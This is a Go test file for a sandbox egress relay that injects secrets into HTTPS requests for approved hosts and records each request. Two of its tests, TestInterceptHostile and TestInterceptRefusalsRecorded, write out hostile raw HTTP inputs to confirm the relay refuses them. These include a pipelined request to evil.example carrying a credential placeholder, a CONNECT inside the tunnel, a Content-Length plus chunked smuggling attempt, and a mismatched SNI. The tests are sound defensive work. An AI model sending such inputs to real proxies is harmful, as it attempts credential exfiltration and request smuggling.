package egress

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	agentegress "github.com/shellbox/shellbox/agent/egress"
	"github.com/shellbox/shellbox/confine"
	"github.com/shellbox/shellbox/secrets"
)

const (
	testSecret      = "s3cr3t-value-never-in-the-sandbox"
	testPlaceholder = "sbx-ph-testplaceholder"
)

type staticSource map[string]string

func (s staticSource) Secret(name string) (string, error) {
	if v, ok := s[name]; ok {
		return v, nil
	}
	return "", fmt.Errorf("secret %q: %w", name, secrets.ErrNotSet)
}

// interceptRig is a relay that terminates TLS for localhost (an origin
// with a certificate of an "upstream" CA) and injects a credential there,
// and tunnels everything else blind.
type interceptRig struct {
	*rig
	tenantPool   *x509.CertPool
	tenantPEM    []byte
	upstreamPool *x509.CertPool
	upstreamCA   *secrets.CA      // the CA the relay trusts upstream
	origin       *httptest.Server // https://localhost:port, the credential's host
	plain        *httptest.Server // http://127.0.0.1:port, reached as localhost
	seen         chan http.Header

	mu      sync.Mutex
	records []RequestRecord
	saw     []originSaw // every request the origin read whole (or till its body broke)

	// noCredential makes localhost a destination without a credential
	// (its connections are terminated for its rules alone: Rewrite is
	// nil); gate, if set, is called in Rewrite before it rewrites (a
	// handler held mid-stream). Both are read by Check, so set them
	// before the connection.
	noCredential atomic.Bool
	gate         atomic.Pointer[func()]
	// alsoHost, if set, is terminated and given the credential as
	// localhost is (a name of this host that clients do not exempt from
	// a proxy, as they do localhost).
	alsoHost atomic.Pointer[string]
	// bigSent counts what the origin has handed its connections of /big
	// answers (a slow reader's test waits for it to stall).
	bigSent atomic.Int64
}

// originSaw is a request as the origin read it.
type originSaw struct {
	Method, Host, Path, Proto string
	Header                    http.Header
	BodyLen                   int
	BodyErr                   error
}

func newInterceptRig(t testing.TB) *interceptRig { return newRuledRig(t, nil) }

// newRuledRig is newInterceptRig whose localhost has rules (nil: none),
// with a plain-text origin on localhost too (ir.plain).
func newRuledRig(t testing.TB, rules *confine.HTTPRules) *interceptRig {
	t.Helper()
	return newOriginRig(t, rules, false)
}

// newOriginRig is newRuledRig whose TLS origin offers HTTP/2 (and
// HTTP/1.1) when h2 is set, HTTP/1.1 alone otherwise.
func newOriginRig(t testing.TB, rules *confine.HTTPRules, h2 bool) *interceptRig {
	t.Helper()
	dir := t.TempDir()
	tenantCA, err := secrets.LoadOrCreateCA(filepath.Join(dir, "tenant.pem"), "acme")
	if err != nil {
		t.Fatal(err)
	}
	upstreamCA, err := secrets.LoadOrCreateCA(filepath.Join(dir, "upstream.pem"), "upstream")
	if err != nil {
		t.Fatal(err)
	}
	ir := &interceptRig{tenantPool: x509.NewCertPool(), tenantPEM: tenantCA.CertPEM(), seen: make(chan http.Header, 100)}
	ir.tenantPool.AppendCertsFromPEM(tenantCA.CertPEM())
	upstreamRoots := x509.NewCertPool()
	upstreamRoots.AppendCertsFromPEM(upstreamCA.CertPEM())
	ir.upstreamPool = upstreamRoots

	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case ir.seen <- r.Header.Clone():
		default: // a benchmark's
		}
		// How the body came: the relay must not reframe an empty one.
		w.Header().Set("X-Framing", fmt.Sprintf("te=%s cl=%d", strings.Join(r.TransferEncoding, ","), r.ContentLength))
		w.Header().Set("X-Proto", r.Proto)
		if r.URL.Path == "/trailers" {
			// As a gRPC server ends a stream: the status in a trailer
			// (one echoing the credential's header, to be scrubbed).
			w.Header().Set("Trailer", "Grpc-Status, X-Echo-Trailer")
			io.WriteString(w, "body")
			w.Header().Set("Grpc-Status", "0")
			w.Header().Set("X-Echo-Trailer", r.Header.Get("Authorization"))
			return
		}
		if r.URL.Path == "/echo" {
			w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		}
		if strings.HasSuffix(r.URL.Path, "/status/101") || strings.HasSuffix(r.URL.Path, "/ws") {
			// A 101 whether asked or not (as an httpbin-style
			// /status/{code} answers), naming the protocol the request
			// offered or "raw"; then it echoes what it reads.
			proto := r.Header.Get("Upgrade")
			if proto == "" {
				proto = "raw"
			}
			c, brw, err := w.(http.Hijacker).Hijack()
			if err != nil {
				return
			}
			defer c.Close()
			fmt.Fprintf(brw, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: %s\r\nConnection: Upgrade\r\n\r\n", proto)
			brw.Flush()
			for {
				line, err := brw.ReadString('\n')
				if err != nil {
					return
				}
				fmt.Fprintf(brw, "echo %s", line)
				brw.Flush()
			}
		}
		if r.URL.Path == "/big" {
			// 10 MiB, or ?mib=N.
			n, err := strconv.ParseInt(r.URL.Query().Get("mib"), 10, 64)
			if err != nil {
				n = 10
			}
			w.Header().Set("Content-Length", strconv.FormatInt(n<<20, 10))
			io.Copy(w, io.LimitReader(countedZeros{&ir.bigSent}, n<<20))
			return
		}
		b, err := io.ReadAll(r.Body)
		ir.mu.Lock()
		ir.saw = append(ir.saw, originSaw{Method: r.Method, Host: r.Host, Path: r.URL.EscapedPath(), Proto: r.Proto, Header: r.Header.Clone(), BodyLen: len(b), BodyErr: err})
		ir.mu.Unlock()
		fmt.Fprintf(w, "%s %s %d", r.Method, r.URL.EscapedPath(), len(b))
	})
	ir.origin = httptest.NewUnstartedServer(handler)
	ir.plain = httptest.NewServer(handler)
	t.Cleanup(ir.plain.Close)
	leaf, err := upstreamCA.Leaf("localhost")
	if err != nil {
		t.Fatal(err)
	}
	ir.upstreamCA = upstreamCA
	ir.origin.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
	ir.origin.EnableHTTP2 = h2
	ir.origin.StartTLS()
	t.Cleanup(ir.origin.Close)

	ir.rig = newRig(t, agentegress.ProxyConfig{})
	tmpl, err := secrets.ParseTemplate("${secret:tok}")
	if err != nil {
		t.Fatal(err)
	}
	inj := secrets.NewInjector(staticSource{"tok": testSecret}, []secrets.Credential{{Name: "test", Value: tmpl, Placeholder: testPlaceholder}})
	ir.startRelay(t, RelayConfig{Check: func(c Conn) (Decision, error) {
		host, _, _ := net.SplitHostPort(c.Target)
		if also := ir.alsoHost.Load(); host != "localhost" && (also == nil || host != *also) {
			return Decision{}, nil
		}
		rewrite := func(h http.Header) (func(http.Header), []string, error) {
			if g := ir.gate.Load(); g != nil {
				(*g)()
			}
			d, err := inj.Rewrite(h)
			return d.Scrub, d.Names, err
		}
		if ir.noCredential.Load() {
			rewrite = nil
		}
		return Decision{Intercept: &Intercept{
			Host:      host,
			Cert:      func() (*tls.Certificate, error) { return tenantCA.Leaf(host) },
			Roots:     upstreamRoots,
			Rewrite:   rewrite,
			Rules:     rules,
			RulesName: "http[0]",
			Observe: func(rec RequestRecord) {
				ir.mu.Lock()
				ir.records = append(ir.records, rec)
				ir.mu.Unlock()
			},
		}}, nil
	}})
	return ir
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// countedZeros is zeros counting what it gave.
type countedZeros struct{ n *atomic.Int64 }

func (z countedZeros) Read(p []byte) (int, error) {
	clear(p)
	z.n.Add(int64(len(p)))
	return len(p), nil
}

// client is an HTTPS client of the sandbox: through the proxy, trusting
// the tenant's CA only, keeping connections alive.
func (ir *interceptRig) client() *http.Client {
	u := &url.URL{Scheme: "http", Host: ir.proxyAddr}
	return &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(u), TLSClientConfig: &tls.Config{RootCAs: ir.tenantPool}, ForceAttemptHTTP2: true}, Timeout: 20 * time.Second}
}

func (ir *interceptRig) url(path string) string {
	return "https://localhost:" + ir.origin.URL[strings.LastIndex(ir.origin.URL, ":")+1:] + path
}

func (ir *interceptRig) recorded() []RequestRecord {
	ir.mu.Lock()
	defer ir.mu.Unlock()
	return append([]RequestRecord(nil), ir.records...)
}

func TestInterceptInjects(t *testing.T) {
	ir := newInterceptRig(t)
	hc := ir.client()
	do := func(method, path string, body io.Reader, header http.Header) (*http.Response, string) {
		t.Helper()
		req, _ := http.NewRequest(method, ir.url(path), body)
		for k, v := range header {
			req.Header[k] = v
		}
		resp, err := hc.Do(req)
		if err != nil {
			t.Fatalf("%s %s: %v", method, path, err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		return resp, string(b)
	}
	// The placeholder in a bearer header, and in Basic credentials (git's
	// userinfo), reaches the origin as the secret; the sandbox's client
	// trusted the relay's leaf (tenant CA) and spoke HTTP/1.1.
	resp, body := do("GET", "/a?token=q", nil, http.Header{"Authorization": {"Bearer " + testPlaceholder}})
	if resp.StatusCode != 200 || body != "GET /a 0" || resp.Proto != "HTTP/1.1" {
		t.Fatalf("GET: %s %s %q", resp.Status, resp.Proto, body)
	}
	if got := (<-ir.seen).Get("Authorization"); got != "Bearer "+testSecret {
		t.Errorf("origin saw %q", got)
	}
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+testPlaceholder))
	do("POST", "/push", strings.NewReader(strings.Repeat("p", 5000)), http.Header{"Authorization": {basic}, "Expect": {"100-continue"}})
	if got := (<-ir.seen).Get("Authorization"); got != "Basic "+base64.StdEncoding.EncodeToString([]byte("x-access-token:"+testSecret)) {
		t.Errorf("origin saw %q", got)
	}
	// An origin echoing the header does not hand the secret back.
	resp, _ = do("GET", "/echo", nil, http.Header{"Authorization": {"Bearer " + testPlaceholder}})
	<-ir.seen
	if strings.Contains(fmt.Sprint(resp.Header), testSecret) {
		t.Errorf("echoed: %v", resp.Header)
	}
	// A large body goes through, counted.
	_, body = do("GET", "/big", nil, nil)
	<-ir.seen
	if len(body) != 10<<20 {
		t.Errorf("big: %d bytes", len(body))
	}
	recs := ir.recorded()
	if len(recs) != 4 {
		t.Fatalf("records: %+v", recs)
	}
	if r := recs[0]; r.Method != "GET" || r.Path != "/a" || r.Status != 200 || r.Host != "localhost" || strings.Join(r.Credentials, ",") != "test" {
		t.Errorf("record: %+v", r)
	}
	if r := recs[1]; r.BytesOut != 5000 || r.Method != "POST" {
		t.Errorf("record: %+v", r)
	}
	if r := recs[3]; r.BytesIn != 10<<20 || len(r.Credentials) != 0 {
		t.Errorf("record: %+v", r)
	}
	if s := fmt.Sprintf("%+v", recs); strings.Contains(s, testSecret) || strings.Contains(s, testPlaceholder) || strings.Contains(s, "token=q") {
		t.Errorf("records show a value: %s", s)
	}
	// Kept alive: four requests, one tunnel.
	if got := ir.outcomesSeen(); len(got) != 1 {
		t.Errorf("tunnels: %v", got)
	}
}

// TestInterceptHostile: what a command may try on a terminated
// connection.
func TestInterceptHostile(t *testing.T) {
	ir := newInterceptRig(t)
	port := ir.origin.URL[strings.LastIndex(ir.origin.URL, ":")+1:]
	tlsOver := func(t *testing.T, sni string) (*tls.Conn, *bufio.Reader) {
		c, br := ir.connect(t, "localhost:"+port, "")
		tc := tls.Client(readerConn{c, br}, &tls.Config{ServerName: sni, RootCAs: ir.tenantPool})
		tc.SetDeadline(time.Now().Add(20 * time.Second))
		return tc, bufio.NewReader(tc)
	}
	// A request naming another host on the connection: refused, and so
	// is a pipelined second one after an allowed one.
	tc, br := tlsOver(t, "localhost")
	fmt.Fprintf(tc, "GET / HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer %[1]s\r\n\r\n", testPlaceholder)
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("first: %v %v", resp, err)
	}
	io.Copy(io.Discard, resp.Body)
	<-ir.seen
	resp, err = http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != http.StatusMisdirectedRequest || !strings.Contains(resp.Header.Get("Shellbox-Error"), "a request for evil.example on a connection to localhost") {
		t.Fatalf("pipelined to another host: %v %v", resp, err)
	}
	// CL and TE both: Go's parser takes the chunked body and drops the
	// length; the relay sends one framing upstream, so nothing is
	// smuggled behind the body.
	tc, br = tlsOver(t, "localhost")
	fmt.Fprintf(tc, "POST /s HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
	resp, err = http.ReadResponse(br, nil)
	if err == nil {
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode == 200 && string(b) != "POST /s 0" {
			t.Errorf("CL+TE: %s %q", resp.Status, b)
		}
		if resp.StatusCode == 200 {
			<-ir.seen
		}
	}
	// CONNECT inside the terminated tunnel.
	tc, br = tlsOver(t, "localhost")
	fmt.Fprintf(tc, "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
	if resp, err := http.ReadResponse(br, nil); err != nil || resp.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("CONNECT inside: %v %v", resp, err)
	}
	// SNI naming another host: no certificate, no handshake.
	tc, _ = tlsOver(t, "evil.example")
	if err := tc.Handshake(); err == nil {
		t.Error("a handshake naming another host succeeded")
	}
	select {
	case h := <-ir.seen:
		t.Errorf("the origin saw another request: %v", h)
	default:
	}
}

// TestInterceptBlindElsewhere: a placeholder sent to a host without the
// credential goes as is, in the blind tunnel (the client's TLS is the
// origin's, end to end).
func TestInterceptBlindElsewhere(t *testing.T) {
	ir := newInterceptRig(t)
	seen := make(chan string, 1)
	other := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { seen <- r.Header.Get("Authorization") }))
	defer other.Close()
	pool := x509.NewCertPool()
	pool.AddCert(other.Certificate())
	u := &url.URL{Scheme: "http", Host: ir.proxyAddr}
	hc := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(u), TLSClientConfig: &tls.Config{RootCAs: pool}}, Timeout: 20 * time.Second}
	req, _ := http.NewRequest("GET", other.URL, nil)
	req.Header.Set("Authorization", "Bearer "+testPlaceholder)
	resp, err := hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if got := <-seen; got != "Bearer "+testPlaceholder {
		t.Errorf("the other host saw %q", got)
	}
}

// TestInterceptUpstreamUnverified: an upstream whose certificate the
// relay's roots do not verify (here: one of another CA, for the right
// name) gets no request: the client is answered 502.
func TestInterceptUpstreamUnverified(t *testing.T) {
	ir := newInterceptRig(t)
	evil, err := secrets.LoadOrCreateCA(filepath.Join(t.TempDir(), "evil.pem"), "evil")
	if err != nil {
		t.Fatal(err)
	}
	leaf, err := evil.Leaf("localhost")
	if err != nil {
		t.Fatal(err)
	}
	hits := make(chan struct{}, 1)
	impostor := httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits <- struct{}{} }))
	impostor.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
	impostor.StartTLS()
	defer impostor.Close()
	resp, err := ir.client().Get("https://localhost:" + impostor.URL[strings.LastIndex(impostor.URL, ":")+1:] + "/x")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadGateway || !strings.Contains(resp.Header.Get("Shellbox-Error"), "shellbox egress: TLS to localhost failed") {
		t.Errorf("got %s %q", resp.Status, resp.Header.Get("Shellbox-Error"))
	}
	if len(hits) != 0 {
		t.Error("the impostor got a request")
	}
}

// TestInstallCA: the relay installs its CA in the agent's bundle before
// polling, after the image's roots; an agent that installs none says so,
// and only certificates are accepted.
func TestInstallCA(t *testing.T) {
	ca, err := secrets.LoadOrCreateCA(filepath.Join(t.TempDir(), "ca.pem"), "acme")
	if err != nil {
		t.Fatal(err)
	}
	bundle := filepath.Join(t.TempDir(), "egress-ca.pem")
	run := func(pcfg agentegress.ProxyConfig, pem []byte) error {
		t.Helper()
		r := newRig(t, pcfg)
		got := make(chan error, 1)
		r.startRelay(t, RelayConfig{CA: pem, Installed: func(err error) { got <- err }})
		select {
		case err := <-got:
			return err
		case <-time.After(20 * time.Second):
			t.Fatal("no install outcome")
			return nil
		}
	}
	if err := run(agentegress.ProxyConfig{CAFile: bundle}, ca.CertPEM()); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(bundle)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasSuffix(string(b), string(ca.CertPEM())) {
		t.Errorf("bundle does not end with the CA:\n%s", b[max(0, len(b)-2000):])
	}
	if fi, _ := os.Stat(bundle); fi.Mode().Perm() != 0o644 {
		t.Errorf("bundle mode %v", fi.Mode())
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(b) {
		t.Error("the bundle holds no certificate a client can load")
	}
	if sys, err := os.ReadFile("/etc/ssl/certs/ca-certificates.crt"); err == nil && !strings.HasPrefix(string(b), string(sys)) {
		t.Error("the bundle does not start with the image's roots")
	}
	if err := run(agentegress.ProxyConfig{}, ca.CertPEM()); err == nil || !strings.Contains(err.Error(), "501") {
		t.Errorf("an agent without a CA file: %v", err)
	}
	key := []byte("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n")
	if err := run(agentegress.ProxyConfig{CAFile: bundle}, key); err == nil || !strings.Contains(err.Error(), "want certificates only") {
		t.Errorf("a key: %v", err)
	}
}

// TestInterceptRefusalsRecorded: what an HTTP/1.1 connection has
// refused before any request is relayed leaves a record each, naming
// the host and why and never a header's value: a request line that is
// not one (400), a head over the bound (400), a TLS handshake naming
// another host (the connection's record, method TLS, counted refused).
func TestInterceptRefusalsRecorded(t *testing.T) {
	ir := newOriginRig(t, nil, false)
	dial := func(name string) (*tls.Conn, error) {
		c, br := ir.connect(t, "localhost:"+ir.port(), "")
		tc := tls.Client(readerConn{c, br}, &tls.Config{ServerName: name, RootCAs: ir.tenantPool, NextProtos: []string{"http/1.1"}})
		return tc, tc.Handshake()
	}
	for _, c := range []struct{ name, head string }{
		{"not a request line", "GARBAGE\r\n\r\n"},
		{"a head over the bound", "GET /big-head HTTP/1.1\r\nHost: localhost\r\nX-Secretish: " + testPlaceholder + strings.Repeat("h", 2*maxRequestHead) + "\r\n\r\n"},
	} {
		tc, err := dial("localhost")
		if err != nil {
			t.Fatal(err)
		}
		go io.WriteString(tc, c.head)
		resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
		if err != nil || resp.StatusCode != http.StatusBadRequest {
			t.Errorf("%s: %v %v", c.name, resp, err)
		}
		tc.Close()
	}
	if _, err := dial("evil.example"); err == nil {
		t.Fatal("a TLS handshake naming another host succeeded")
	}
	var recs []RequestRecord
	for range 2000 { // a stuck relay fails the test, it is not timed
		if recs = ir.recorded(); len(recs) >= 3 {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if len(recs) != 3 {
		t.Fatalf("records: %+v", recs)
	}
	for i, r := range recs {
		if r.Host != "localhost" || r.Refused == "" || strings.Contains(r.Refused, testPlaceholder) || strings.Contains(r.Refused, "hhhh") {
			t.Errorf("record %d: %+v", i, r)
		}
	}
	if recs[0].Status != 400 || recs[1].Status != 400 {
		t.Errorf("the refused requests' records: %+v", recs[:2])
	}
	if r := recs[2]; r.Method != "TLS" || r.Path != "" || !strings.Contains(r.Refused, "TLS names evil.example on a connection to localhost") {
		t.Errorf("the handshake's record: %+v", r)
	}
	if !slices.Contains(ir.outcomesSeen(), "refused localhost") {
		t.Errorf("outcomes %q", ir.outcomesSeen())
	}
}
